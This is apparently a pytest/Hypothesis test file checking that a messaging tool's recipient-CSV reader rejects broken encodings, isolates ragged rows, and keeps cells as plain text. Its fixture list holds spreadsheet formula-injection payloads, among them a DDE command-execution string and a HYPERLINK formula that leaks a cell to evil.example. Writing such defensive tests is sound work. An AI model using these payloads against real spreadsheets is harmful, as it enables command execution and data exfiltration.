"""Property tests: broken recipient CSVs fail clearly, ragged rows fail alone, cells stay text."""

from __future__ import annotations

import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bwmsg.campaign import DryRunReport, InputError, RenderError, Template, dry_run, read_rows
from tests.cli_helpers import write_table

# tmp_path is shared by the examples of one test: each example rewrites the one file.
file_settings = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]
TEMPLATE = Template(text="Hi {name}", from_="+19195550000")
column_names = st.text(alphabet=string.ascii_lowercase + "_", min_size=1, max_size=8)
cells = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60)


def read_all(path: Path) -> list[tuple[int, dict[str, str] | RenderError]]:
    return list(read_rows(path))


def read_or_error(path: Path) -> list[tuple[int, dict[str, str] | RenderError]] | InputError:
    """The rows, or the InputError raised instead (any other exception propagates)."""
    try:
        return read_all(path)
    except InputError as exc:
        return exc


def dry_run_or_error(path: Path) -> DryRunReport | InputError:
    """The dry run's report, or the InputError raised instead."""
    try:
        return dry_run(path, TEMPLATE)
    except InputError as exc:
        return exc


# -- encodings ------------------------------------------------------------------------------------


@file_settings
@given(
    name=st.tuples(
        st.text(alphabet=string.ascii_letters, max_size=10),
        st.characters(min_codepoint=0xC0, max_codepoint=0xFF),  # é, ü, ß ... in latin-1
        st.text(alphabet=string.ascii_letters, max_size=10),
    ).map("".join),
    in_header=st.booleans(),
    rows_before=st.integers(0, 3000),
)
def test_latin1_file_is_an_input_error(
    tmp_path: Path, name: str, in_header: bool, rows_before: int
) -> None:
    """A latin-1 file (in the header or any row) raises InputError saying it is not UTF-8."""
    header = ["to", name if in_header else "name"]
    rows = [header, *([["+19195551212", "Bob"]] * rows_before), ["+19195551213", name]]
    text = "\r\n".join(",".join(row) for row in rows) + "\r\n"
    path = tmp_path / "latin1.csv"
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(InputError, match="not UTF-8"):
        read_all(path)
    with pytest.raises(InputError, match="not UTF-8"):
        dry_run(path, TEMPLATE)


@file_settings
@given(data=st.binary(max_size=2000))
def test_random_bytes_are_rows_or_an_input_error(tmp_path: Path, data: bytes) -> None:
    """Any bytes read as rows (dicts or RenderErrors) or raise InputError, nothing else."""
    path = tmp_path / "random.csv"
    path.write_bytes(data)
    rows = read_or_error(path)
    if isinstance(rows, InputError):
        assert str(rows)
    else:
        assert [number for number, _ in rows] == list(range(1, len(rows) + 1))
        assert all(isinstance(columns, (dict, RenderError)) for _, columns in rows)
    report = dry_run_or_error(path)
    assert isinstance(report, InputError) == isinstance(rows, InputError)
    if isinstance(report, DryRunReport):
        assert report.messages + report.invalid_count == report.rows


@file_settings
@given(body=st.binary(max_size=500), prefix=st.sampled_from([b"to,name\n", b"to\n"]))
def test_random_bytes_after_a_header_are_rows_or_an_input_error(
    tmp_path: Path, body: bytes, prefix: bytes
) -> None:
    """Random bytes under a good header read as rows or raise InputError, nothing else."""
    path = tmp_path / "random.csv"
    path.write_bytes(prefix + body)
    report = dry_run_or_error(path)
    if isinstance(report, InputError):
        assert "UTF-8" in str(report)
    else:
        assert report.messages + report.invalid_count == report.rows


def test_overlong_header_field_is_an_input_error(tmp_path: Path) -> None:
    """A header cell longer than csv's field limit (128 KiB) raises InputError."""
    path = tmp_path / "long.csv"
    path.write_bytes(b"to,name," + b"x" * 200_000 + b"\n+19195551212,Bob,x\n")
    with pytest.raises(InputError):
        read_all(path)


# -- columns and ragged rows ----------------------------------------------------------------------


@file_settings
@given(
    header=st.lists(column_names, min_size=1, max_size=6, unique=True).filter(
        lambda names: "to" not in names
    ),
    padded=st.booleans(),
)
def test_missing_to_column_is_an_input_error(
    tmp_path: Path, header: list[str], padded: bool
) -> None:
    """A header without a 'to' column raises InputError naming 'to' and the columns found."""
    if padded:
        header = [f" {name} " for name in header]
    path = write_table(tmp_path / "noto.csv", [header, ["+19195551212"] * len(header)])
    with pytest.raises(InputError, match="no 'to' column") as caught:
        read_all(path)
    assert header[0].strip() in str(caught.value)
    with pytest.raises(InputError, match="no 'to' column"):
        dry_run(path, TEMPLATE)


@file_settings
@given(
    extra=st.lists(cells.filter(lambda c: c.strip() != ""), min_size=1, max_size=4),
    where=st.integers(0, 4),
)
def test_row_with_extra_cells_fails_alone(tmp_path: Path, extra: list[str], where: int) -> None:
    """A row with more cells than the header is a RenderError; the rows around it still read."""
    rows = [["to", "name"]] + [[f"+1919555121{i}", f"N{i}"] for i in range(5)]
    rows[1 + where] = rows[1 + where] + extra
    path = write_table(tmp_path / "ragged.csv", rows)
    read = read_all(path)
    assert len(read) == 5
    for number, columns in read:
        if number == where + 1:
            assert isinstance(columns, RenderError)
            assert "more cells than the header" in str(columns)
        else:
            assert columns == {"to": f"+1919555121{number - 1}", "name": f"N{number - 1}"}
    report = dry_run(path, TEMPLATE)
    assert (report.messages, report.invalid_count) == (4, 1)
    assert report.invalid[0][0] == where + 1


@file_settings
@given(where=st.integers(0, 4), keep=st.integers(1, 2))
def test_row_with_missing_cells_fails_alone(tmp_path: Path, where: int, keep: int) -> None:
    """A row with fewer cells than the header is a RenderError; the rows around it still read."""
    rows = [["to", "name", "city"]] + [[f"+1919555121{i}", f"N{i}", "Paris"] for i in range(5)]
    rows[1 + where] = rows[1 + where][:keep]
    path = write_table(tmp_path / "short.csv", rows)
    read = dict(read_all(path))
    assert isinstance(read[where + 1], RenderError)
    assert sum(isinstance(columns, dict) for columns in read.values()) == 4


def test_short_row_missing_the_to_cell_is_invalid(tmp_path: Path) -> None:
    """A row that stops before its 'to' cell cannot become a message (RenderError in dry run)."""
    path = write_table(tmp_path / "short.csv", [["name", "to"], ["Bob"], ["Ann", "+19195551212"]])
    report = dry_run(path, TEMPLATE)
    assert (report.rows, report.messages, report.invalid_count) == (2, 1, 1)
    assert report.invalid[0][0] == 1


# -- formula injection and plain text -------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cell_renders_as_plain_text(tmp_path: Path, formula: str) -> None:
    """A formula-injection cell is read and rendered verbatim: a string, never evaluated."""
    path = write_table(tmp_path / "formula.csv", [["to", "name"], ["+19195551212", formula]])
    [(_, columns)] = read_all(path)
    assert columns == {"to": "+19195551212", "name": formula}
    assert isinstance(columns, dict)
    request = TEMPLATE.render(columns)
    assert request.text == "Hi " + formula
    report = dry_run(path, TEMPLATE)
    assert (report.messages, report.invalid_count) == (1, 0)


@file_settings
@given(
    cell=st.one_of(
        st.sampled_from(FORMULAS),
        st.tuples(st.sampled_from("=+-@\t\r"), cells).map("".join),
        cells,
        st.sampled_from(["{to}", "{name}", "{0}", "{__class__}", "{{x}}", "%s", "${x}"]),
    )
)
def test_any_cell_round_trips_and_renders_verbatim(tmp_path: Path, cell: str) -> None:
    """Any cell text (formulas, braces, quotes, newlines) reaches the message text unchanged."""
    path = write_table(tmp_path / "cells.csv", [["to", "name"], ["+19195551212", cell]])
    [(_, columns)] = read_all(path)
    assert isinstance(columns, dict)
    assert columns["name"] == cell
    template = Template(text="Hi {name}!", tag="t-{name}", from_="+19195550000")
    request = template.render(columns)
    assert request.text == "Hi " + cell + "!"
    assert request.tag == "t-" + cell


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_to_column_is_an_invalid_row(tmp_path: Path, formula: str) -> None:
    """A formula in the 'to' column makes that row invalid, not a crash."""
    path = write_table(tmp_path / "formula.csv", [["to", "name"], [formula, "Bob"]])
    report = dry_run(path, TEMPLATE)
    assert (report.rows, report.messages, report.invalid_count) == (1, 0, 1)
